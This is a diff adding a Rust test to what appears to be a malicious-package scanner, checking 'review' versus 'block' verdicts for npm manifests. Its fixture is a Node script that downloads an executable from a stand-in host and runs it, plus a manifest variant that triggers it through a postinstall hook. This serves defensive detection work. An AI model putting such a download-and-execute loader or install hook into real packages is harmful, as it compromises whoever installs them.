@@ -88,3 +88,22 @@ fn a_tool_of_the_makers_does_not_run_by_itself() {
         "review"
     );
 }
+
+#[test]
+fn a_command_does_what_it_is_started_for() {
+    let cli = "#!/usr/bin/env node\nconst fs = require('fs'), https = require('https'), { execFileSync } = require('child_process');\n\
+               https.get('https://tool.invalid/tool.exe', (r) => {\n  const f = fs.createWriteStream('/opt/tool.exe');\n  r.pipe(f);\n  \
+               f.on('close', () => execFileSync('/opt/tool.exe'));\n});\n";
+    // In a package of hardly any code a flow is what it is for, whoever starts it.
+    let rest = "exports.one = (a) => a + 1;\n".repeat(1000);
+    let verdict_of = |manifest: &str, cli: &str| {
+        verdict(&[("package/package.json", manifest), ("package/cli.js", cli), ("package/index.js", rest.as_str())])
+    };
+    let command = r#"{"name":"inert","version":"1.0.0","main":"index.js","bin":{"inert":"./cli.js"}}"#;
+    assert_eq!(verdict_of(command, cli), "review");
+    assert_eq!(verdict_of(&command.replace("index.js", "cli.js"), cli), "block");
+    let installed = command.replace("\"bin\"", "\"scripts\":{\"postinstall\":\"node cli.js\"},\"bin\"");
+    assert_eq!(verdict_of(&installed, cli), "block");
+    // Nobody starts a command to have secrets sent.
+    assert_eq!(verdict_of(command, THIEF), "block");
+}
